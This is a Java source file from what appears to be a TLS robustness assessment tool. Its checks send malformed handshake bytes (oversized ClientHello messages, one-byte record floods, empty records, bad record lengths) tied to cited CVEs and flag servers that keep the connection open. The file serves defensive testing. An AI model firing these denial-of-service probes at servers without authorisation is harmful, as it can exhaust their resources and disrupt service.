package dev.countersign.assessment;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.util.List;

/** Bytes that only look like a handshake: a connection with them must end, and nobody else may feel it. */
final class HandshakeBytes extends Abuse {
  private static final int RECORDS = 5_000;
  private static final int BIG_MESSAGE_CHUNKS = 64;
  private static final int CHUNK = 16 * 1024;

  private final List<byte[]> chunks;

  private HandshakeBytes(String name, String tries, String source, List<byte[]> chunks) {
    super(
        About.of(name, Group.TRANSPORT, Severity.MEDIUM)
            .tries(tries)
            .safe("The connection ends; others are served meanwhile.")
            .source(source)
            .remedy("Bound what a handshake may send and how long it may take."),
        Reach.TLS,
        true);
    this.chunks = chunks;
  }

  static List<Check> all() {
    return List.of(
        new HandshakeBytes(
            "handshake-of-16-mib",
            "A handshake message that claims 16 MiB, and 1 MiB of it.",
            "CWE-400; CVE-2023-34462",
            hugeMessage()),
        new HandshakeBytes(
            "handshake-in-crumbs",
            "A handshake message of 16 MiB in thousands of records of one byte.",
            "CVE-2026-45416",
            List.of(crumbs())),
        new HandshakeBytes(
            "empty-records",
            "Thousands of empty handshake records.",
            "RFC 8446 section 5.1",
            List.of(emptyRecords())),
        new HandshakeBytes(
            "record-of-bad-length",
            "A record that claims 65,535 bytes, and application data before any handshake.",
            "CVE-2025-24970; RFC 8446 section 5.1",
            List.of(new byte[] {22, 3, 1, -1, -1, 1, 0, 0}, new byte[] {23, 3, 3, 0, 2, 0, 0})));
  }

  private static List<byte[]> hugeMessage() {
    byte[] first =
        ByteBuffer.allocate(CHUNK).put(new byte[] {1, -1, -1, -1, 3, 3}).array();
    java.util.ArrayList<byte[]> chunks = new java.util.ArrayList<>();
    chunks.add(ClientHello.record(ClientHello.TLS_1_2, first));
    for (int i = 1; i < BIG_MESSAGE_CHUNKS; i++) {
      chunks.add(ClientHello.record(ClientHello.TLS_1_2, new byte[CHUNK]));
    }
    return chunks;
  }

  private static byte[] crumbs() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] beginning = {1, -1, -1, -1, 3, 3};
    for (int i = 0; i < RECORDS; i++) {
      byte crumb = i < beginning.length ? beginning[i] : 0;
      out.writeBytes(ClientHello.record(ClientHello.TLS_1_2, new byte[] {crumb}));
    }
    return out.toByteArray();
  }

  private static byte[] emptyRecords() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int i = 0; i < RECORDS; i++) {
      out.writeBytes(ClientHello.record(ClientHello.TLS_1_2, new byte[0]));
    }
    return out.toByteArray();
  }

  @Override
  Outcome misbehave(Attack attack) throws IOException {
    Socket socket = attack.tcp();
    // As long as a handshake may take, and a little more.
    socket.setSoTimeout((int) attack.target().handshakePatience().toMillis());
    try {
      OutputStream out = socket.getOutputStream();
      for (byte[] chunk : chunks) {
        out.write(chunk);
      }
      while (socket.getInputStream().read() >= 0) {
        // An alert, perhaps.
      }
      return Outcome.passed("the connection ended");
    } catch (SocketTimeoutException e) {
      return Outcome.finding("the connection is still open after "
          + attack.target().handshakePatience().toSeconds() + " s");
    } catch (SocketException e) {
      return Outcome.passed("the connection was reset");
    }
  }
}
